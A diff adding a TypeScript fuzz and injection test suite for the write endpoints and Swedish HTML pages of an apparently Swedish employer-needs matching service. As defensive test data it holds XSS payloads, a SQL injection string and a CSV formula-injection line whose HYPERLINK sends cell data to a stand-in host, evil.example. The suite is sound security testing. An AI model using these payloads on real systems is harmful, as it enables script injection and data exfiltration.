@@ -1,0 +1,498 @@
+/**
+ * Fuzzing every write endpoint with fast-check: at least 1,000 generated bad requests each
+ * (bodies that are guaranteed invalid, with hostile strings, numbers and keys inside; malformed
+ * JSON; other content types; hostile query strings, headers and path segments). Every answer
+ * must be a 4xx: problem+json from the API, a Swedish HTML page from the public pages. Nothing
+ * may be stored (row counts of every table unchanged) and no prototype may be polluted.
+ *
+ * Seeds are fixed per endpoint, so a failure reproduces; the failure names the seed, the path
+ * and the input. FUZZ_RUNS changes the number of runs, FUZZ_SEED the seeds (to explore),
+ * FUZZ_SHRINK=on lets fast-check shrink a counterexample, FUZZ_STATS=on prints the answers.
+ */
+import { AddressInfo } from 'node:net';
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import request from 'supertest';
+import {
+  BadBody,
+  badForm,
+  badHeaders,
+  badJsonBody,
+  badPathSegment,
+  badQuery,
+  Headers,
+} from '../support/fuzz';
+import {
+  accountEmail,
+  AccountName,
+  startWorld,
+  validNeedBody,
+  validNeedForm,
+  validOfferingBody,
+  World,
+  WORLD_PASSWORD,
+} from '../support/world';
+
+const RUNS = Number(process.env.FUZZ_RUNS ?? 1_000);
+/** Another base explores other inputs (each endpoint's seed is derived from it and its name). */
+const SEED_BASE = Number(process.env.FUZZ_SEED ?? 9);
+const RAW_MARKUP = [/<script>alert/i, /<img src=x/i, /<svg onload/i];
+
+interface Fixtures {
+  offering: string;
+  proposal: string;
+  initiative: string;
+}
+
+interface Input {
+  path: string;
+  body: BadBody;
+  query: string;
+  headers: Headers;
+  /** Replaces a valid Authorization header with garbage. */
+  badAuth: string | null;
+}
+
+interface Target {
+  method: 'post' | 'patch' | 'delete';
+  /** Either a fixed path or generated bad ones (`:param` routes). */
+  path: (f: Fixtures) => fc.Arbitrary<string>;
+  body: (w: World) => fc.Arbitrary<BadBody>;
+  as?: AccountName;
+  /** Public pages answer errors with a Swedish HTML page instead of problem+json. */
+  page?: boolean;
+  /**
+   * The kind of answer (see `answerKind`) that shows a request got past parsing into the
+   * endpoint's own checks; at least a tenth of the answers must be of it, so the generators
+   * keep testing the endpoint and not only the body parser.
+   */
+  reaches: RegExp;
+}
+
+const fixed = (path: string) => () => fc.constant(path);
+/** The real resource most of the time (so validation is reached), a bad segment otherwise. */
+const mostly =
+  (prefix: string, id: (f: Fixtures) => string, suffix = '') =>
+  (f: Fixtures) =>
+    fc
+      .oneof(
+        { weight: 4, arbitrary: fc.constant(encodeURIComponent(id(f))) },
+        { weight: 1, arbitrary: badPathSegment },
+      )
+      .map((segment) => `${prefix}${segment}${suffix}`);
+const never =
+  (prefix: string, suffix = '') =>
+  () =>
+    badPathSegment.map((segment) => `${prefix}${segment}${suffix}`);
+
+const needBody = (w: World) => badJsonBody(validNeedBody(w.competenceId));
+
+const TARGETS: Record<string, Target> = {
+  'POST /api/v1/needs': {
+    method: 'post',
+    path: fixed('/api/v1/needs'),
+    body: needBody,
+    reaches: /^400 fields/,
+  },
+  'DELETE /api/v1/needs/track/:token': {
+    method: 'delete',
+    path: never('/api/v1/needs/track/'),
+    body: needBody,
+    reaches: /^404 /,
+  },
+  'POST /behov': {
+    method: 'post',
+    path: fixed('/behov'),
+    body: (w) => badForm(validNeedForm(w.competenceId)),
+    page: true,
+    reaches: /^400 form/,
+  },
+  'POST /behov/:token/aterkalla': {
+    method: 'post',
+    path: never('/behov/', '/aterkalla'),
+    body: (w) => badForm(validNeedForm(w.competenceId)),
+    page: true,
+    reaches: /^404 page/,
+  },
+  'POST /api/v1/auth/login': {
+    method: 'post',
+    path: fixed('/api/v1/auth/login'),
+    body: () => badJsonBody({ email: accountEmail('providerOwn'), password: WORLD_PASSWORD }),
+    reaches: /^400 fields/,
+  },
+  'POST /api/v1/offerings': {
+    method: 'post',
+    path: fixed('/api/v1/offerings'),
+    body: (w) => badJsonBody(validOfferingBody(w.competenceId)),
+    as: 'providerOwn',
+    reaches: /^400 fields/,
+  },
+  'PATCH /api/v1/offerings/:id': {
+    method: 'patch',
+    path: mostly('/api/v1/offerings/', (f) => f.offering),
+    body: (w) => badJsonBody(validOfferingBody(w.competenceId)),
+    as: 'providerOwn',
+    reaches: /^400 fields/,
+  },
+  'DELETE /api/v1/offerings/:id': {
+    method: 'delete',
+    path: never('/api/v1/offerings/'),
+    body: (w) => badJsonBody(validOfferingBody(w.competenceId)),
+    as: 'providerOwn',
+    reaches: /^(404 |400 Validation failed \(uuid)/,
+  },
+  'POST /api/v1/admin/users': {
+    method: 'post',
+    path: fixed('/api/v1/admin/users'),
+    body: () =>
+      badJsonBody({
+        email: 'ny.anvandare@world.test',
+        password: WORLD_PASSWORD,
+        role: 'broker',
+        learningCentreId: 'lc-orebro',
+      }),
+    as: 'admin',
+    reaches: /^400 fields/,
+  },
+  'POST /api/v1/admin/proposals/:id/approve': {
+    method: 'post',
+    path: mostly('/api/v1/admin/proposals/', (f) => f.proposal, '/approve'),
+    body: () => badJsonBody({ note: 'Godkänt efter samtal med arbetsgivarna' }),
+    as: 'brokerOwn',
+    reaches: /^400 fields/,
+  },
+  'POST /api/v1/admin/proposals/:id/reject': {
+    method: 'post',
+    path: mostly('/api/v1/admin/proposals/', (f) => f.proposal, '/reject'),
+    body: () => badJsonBody({ reason: 'Arbetsgivarna vill ha kvällskurs' }),
+    as: 'brokerOwn',
+    reaches: /^400 fields/,
+  },
+  'POST /api/v1/admin/initiatives/:id/status': {
+    method: 'post',
+    path: mostly('/api/v1/admin/initiatives/', (f) => f.initiative, '/status'),
+    body: () => badJsonBody({ status: 'running' }),
+    as: 'brokerOwn',
+    reaches: /^400 fields/,
+  },
+  'POST /api/v1/admin/project-drafts/:id/approve': {
+    method: 'post',
+    path: never('/api/v1/admin/project-drafts/', '/approve'),
+    body: () => badJsonBody({ note: 'x' }),
+    as: 'brokerOwn',
+    reaches: /^404 /,
+  },
+  'POST /api/v1/admin/matching/runs': {
+    method: 'post',
+    path: fixed('/api/v1/admin/matching/runs'),
+    body: () => badJsonBody({ countyCode: '18' }),
+    as: 'brokerOwn',
+    reaches: /^400 fields/,
+  },
+};
+
+/** What is wrong with an answer to a bad request, if anything. */
+function complaint(res: request.Response, page: boolean): string | undefined {
+  const type = String(res.headers['content-type'] ?? '');
+  const text = String(res.body ?? '');
+  if (res.status < 400 || res.status >= 500) return `status ${res.status}`;
+  if (page) {
+    if (!type.startsWith('text/html')) return `a page answered ${res.status} with ${type}`;
+    if (!text.includes('<html lang="sv"')) return 'the error page is not Swedish HTML';
+    const raw = RAW_MARKUP.find((pattern) => pattern.test(text));
+    if (raw) return `the page contains raw markup ${raw}`;
+    return undefined;
+  }
+  if (!type.startsWith('application/problem+json')) return `${res.status} with ${type}`;
+  let problem: { status?: unknown; title?: unknown };
+  try {
+    problem = JSON.parse(text);
+  } catch {
+    return 'the problem+json body is not JSON';
+  }
+  if (problem.status !== res.status || typeof problem.title !== 'string') {
+    return 'the problem+json body lacks status/title';
+  }
+  return undefined;
+}
+
+/** "status what": `400 fields` (field problems), `400 form` (the form again), `404 page`, …. */
+function answerKind(res: request.Response, page: boolean): string {
+  const text = String(res.body ?? '');
+  if (page) return `${res.status} ${text.includes('error-summary') ? 'form' : 'page'}`;
+  try {
+    const body = JSON.parse(text) as { errors?: unknown; detail?: string };
+    return `${res.status} ${body.errors ? 'fields' : (body.detail ?? '').slice(0, 40)}`;
+  } catch {
+    return `${res.status} ?`;
+  }
+}
+
+/** fast-check's own report prints whole 60 kB bodies; this one stays readable. */
+function describeFailure(details: fc.RunDetails<[Input]>): string {
+  const [input] = details.counterexample ?? [];
+  const short = (text: string) =>
+    text.length > 400 ? `${text.slice(0, 400)}… (${text.length})` : text;
+  const error = details.errorInstance instanceof Error ? details.errorInstance.message : '';
+  return [
+    `seed ${details.seed}, path "${details.counterexamplePath}" (fc.check with { seed, path })`,
+    `error: ${short(error)}`,
+    input
+      ? `input: ${input.path}?${short(input.query)} ${input.body.contentType} (${input.body.note}) ` +
+        `${short(input.body.text)} headers ${short(JSON.stringify(input.headers))}` +
+        (input.badAuth !== null ? ` auth ${input.badAuth}` : '')
+      : '',
+  ].join('\n');
+}
+
+describe('fuzzing the write endpoints', () => {
+  let w: World;
+  let f: Fixtures;
+  let base: string;
+  const prototypeKeys = () => Object.getOwnPropertyNames(Object.prototype).sort().join(',');
+  const cleanPrototype = prototypeKeys();
+
+  beforeAll(async () => {
+    w = await startWorld();
+    f = {
+      offering: await w.offering('orebro'),
+      proposal: await w.proposal('orebro'),
+      initiative: await w.initiative('orebro'),
+    };
+    const server = w.t.app.getHttpServer();
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  }, 60_000);
+  afterAll(() => w?.t.close());
+
+  const send = (target: Target, input: Input) => {
+    const url = `${input.path}${input.query ? `?${input.query}` : ''}`;
+    let req = request(base)
+      [target.method](url)
+      .set('X-Forwarded-For', w.nextIp())
+      .buffer(true)
+      .parse((res, done) => {
+        let text = '';
+        res.setEncoding('utf8');
+        res.on('data', (chunk: string) => (text += chunk));
+        res.on('end', () => done(null, text));
+      });
+    if (target.as) req = req.set(w.auth(target.as));
+    if (input.badAuth !== null) req = req.set('Authorization', input.badAuth);
+    req = req.set(input.headers).set('Content-Type', input.body.contentType);
+    return req.send(input.body.text);
+  };
+
+  for (const [name, target] of Object.entries(TARGETS)) {
+    it(`${name}: ${RUNS} bad requests → 4xx, nothing stored`, async () => {
+      const before = await w.rowCounts();
+      const input: fc.Arbitrary<Input> = fc.record({
+        path: target.path(f),
+        body: target.body(w),
+        query: fc.oneof(fc.constant(''), badQuery),
+        headers: badHeaders,
+        badAuth: target.as
+          ? fc.oneof(
+              { weight: 19, arbitrary: fc.constant(null) },
+              {
+                weight: 1,
+                arbitrary: fc.constantFrom(
+                  '',
+                  'Bearer',
+                  'Bearer x.y.z',
+                  'Basic YTpi',
+                  'Bearer å.ä.ö',
+                ),
+              },
+            )
+          : fc.constant(null),
+      });
+      const seed = [...name].reduce((h, c) => (h * 31 + c.charCodeAt(0)) | 0, SEED_BASE);
+      const tally = new Map<string, number>();
+      const details = await fc.check(
+        fc.asyncProperty(input, async (i) => {
+          const res = await send(target, i);
+          const kind = answerKind(res, target.page ?? false);
+          tally.set(kind, (tally.get(kind) ?? 0) + 1);
+          const problem = complaint(res, target.page ?? false);
+          if (problem) throw new Error(`${problem}: ${String(res.body).slice(0, 300)}`);
+        }),
+        { numRuns: RUNS, seed, endOnFailure: process.env.FUZZ_SHRINK !== 'on' },
+      );
+      if (process.env.FUZZ_STATS)
+        console.log(
+          name,
+          [...tally].sort((a, b) => b[1] - a[1]),
+        );
+      expect(details.failed ? describeFailure(details) : 'ok').toBe('ok');
+      const reached = [...tally].filter(([kind]) => target.reaches.test(kind));
+      expect(reached.reduce((n, [, count]) => n + count, 0)).toBeGreaterThanOrEqual(RUNS / 10);
+      expect(await w.rowCounts()).toEqual(before);
+      expect(prototypeKeys()).toBe(cleanPrototype);
+      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+    }, 300_000);
+  }
+
+  describe('injected markup and formulas come back escaped', () => {
+    const SCRIPT = '<script>alert(1)</script>';
+    const IMG = '"><img src=x onerror=alert(1)>';
+    const SVG = "'><svg onload=alert(1)>";
+    const FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Klicka")';
+    const hostile = (token: string) => ({
+      title: `Kurs ${SCRIPT}`,
+      description: `${IMG} ${SVG} </textarea>${SCRIPT} \u202eRTL\u202c zero\u200bwidth ${FORMULA}`,
+      employer: {
+        orgNumber: '556703-7485',
+        name: `${IMG} ${token}`,
+        municipalityCode: '1880',
+        sniSection: 'C',
+        employees: 12,
+      },
+      contact: { name: SVG, email: 'anna@example.se' },
+    });
+    const rawMarkup = (page: string) =>
+      [SCRIPT, IMG, SVG, '<img', '<svg', '<script>alert'].filter((raw) => page.includes(raw));
+    const get = (path: string) =>
+      w
+        .http()
+        .get(path)
+        .set('X-Forwarded-For', w.nextIp())
+        .buffer(true)
+        .parse((res, done) => {
+          const chunks: Buffer[] = [];
+          res.on('data', (c: Buffer) => chunks.push(c));
+          res.on('end', () => done(null, Buffer.concat(chunks).toString('utf8')));
+        });
+
+    it('on every page that shows a need, in the JSON APIs verbatim, and in the CSV export', async () => {
+      const submitted = await w
+        .http()
+        .post('/api/v1/needs')
+        .set('X-Forwarded-For', w.nextIp())
+        .send(validNeedBody(w.competenceId, hostile('AB')));
+      expect(submitted.status).toBe(201);
+      const token = submitted.body.trackingToken as string;
+
+      const form = await w
+        .http()
+        .post('/behov')
+        .set('X-Forwarded-For', w.nextIp())
+        .type('form')
+        .send({
+          ...validNeedForm(w.competenceId),
+          title: `Kurs ${SCRIPT}`,
+          description: `${IMG} ${SVG}`,
+          'employer.name': `${IMG} HB`,
+          'contact.name': SVG,
+        });
+      expect(form.status).toBe(303);
+      const formToken = /^\/behov\/([\w-]{43})/.exec(form.headers.location)![1];
+      const invalidForm = await w
+        .http()
+        .post('/behov')
+        .set('X-Forwarded-For', w.nextIp())
+        .type('form')
+        .send({
+          ...validNeedForm(w.competenceId),
+          title: SCRIPT,
+          'contact.name': IMG,
+          consent: '',
+        });
+      expect(invalidForm.status).toBe(400);
+
+      const pages: [string, string][] = [['POST /behov (form again)', invalidForm.text]];
+      for (const path of [
+        `/behov/${token}`,
+        `/behov/${token}?ny=1`,
+        `/behov/${token}/aterkalla`,
+        `/behov/${formToken}`,
+      ]) {
+        const res = await get(path);
+        expect(res.status).toBe(200);
+        pages.push([path, String(res.body)]);
+      }
+      const withdrawn = await w
+        .http()
+        .post(`/behov/${formToken}/aterkalla`)
+        .set('X-Forwarded-For', w.nextIp());
+      expect(withdrawn.status).toBe(303);
+      pages.push([
+        withdrawn.headers.location,
+        String((await get(withdrawn.headers.location)).body),
+      ]);
+
+      for (const [path, page] of pages) {
+        expect({ path, raw: rawMarkup(page) }).toEqual({ path, raw: [] });
+        expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
+      }
+      expect(pages[1][1]).toContain('&lt;svg onload=alert(1)&gt;');
+
+      // JSON keeps the text as it was written; browsers must not sniff it as HTML.
+      const tracked = await w.http().get(`/api/v1/needs/track/${token}`).expect(200);
+      expect(tracked.body.title).toBe(`Kurs ${SCRIPT}`);
+      const [need] = await w.db.query(`SELECT n.id, n.employer_id FROM need n WHERE n.id = $1`, [
+        submitted.body.id,
+      ]);
+      const others = [await w.need('orebro'), await w.need('orebro')];
+      await w.db.query(`UPDATE employer SET name = $2 WHERE id = ANY ($1::uuid[])`, [
+        others.map((n) => n.employerId),
+        `${FORMULA} AB`,
+      ]);
+      const proposalId = await w.proposal('orebro', [
+        { needId: need.id, employerId: need.employer_id, token, municipalityCode: '1880' },
+        ...others,
+      ]);
+      const proposal = await w
+        .http()
+        .get(`/api/v1/admin/proposals/${proposalId}`)
+        .set(w.auth('brokerOwn'))
+        .expect(200);
+      expect(proposal.headers['content-type']).toMatch(/^application\/json/);
+      expect(proposal.headers['x-content-type-options']).toBe('nosniff');
+      expect(proposal.body.needs.map((n: { employerName: string }) => n.employerName)).toContain(
+        `${IMG} AB`,
+      );
+
+      // A spreadsheet must not run a formula an employer typed as its name.
+      await w.db.query(`UPDATE employer SET name = $2 WHERE id = $1`, [
+        need.employer_id,
+        `${FORMULA} HB`,
+      ]);
+      const draftId = await w.projectDraft('orebro', proposalId);
+      const csv = await get(`/api/v1/admin/project-drafts/${draftId}/export?format=csv`).set(
+        w.auth('brokerOwn'),
+      );
+      expect(csv.status).toBe(200);
+      const rows: string[][] = parse(String(csv.body), { delimiter: ';', bom: true });
+      const employers = rows.find((r) => r[1] === 'Deltagande arbetsgivare')?.[2] ?? '';
+      expect(employers).toContain('HYPERLINK');
+      const formulas = rows.flat().filter((cell) => /^[=+@\t\r]|^-(?!\d)/.test(cell));
+      expect(formulas).toEqual([]);
+    });
+
+    it('valid texts with unicode edge cases are stored or refused with a 4xx, never a 5xx', async () => {
+      for (const text of [
+        'Kurs \u0000 med NUL',
+        'Kurs \u202eRTL\u202c',
+        'Kurs zero\u200bwidth\ufeff',
+        'Kurs مرحبا',
+        'Kurs 😀😀',
+        'Kurs \u0301\u0301',
+        "Kurs '; DROP TABLE need; --",
+      ]) {
+        const res = await w
+          .http()
+          .post('/api/v1/needs')
+          .set('X-Forwarded-For', w.nextIp())
+          .send(validNeedBody(w.competenceId, { title: text, description: text }));
+        expect([text, res.status < 500]).toEqual([text, true]);
+        if (res.status === 201) {
+          const tracked = await w.http().get(`/api/v1/needs/track/${res.body.trackingToken}`);
+          expect(tracked.body.title).toBe(text.trim());
+        } else {
+          expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
+        }
+      }
+    });
+  });
+});
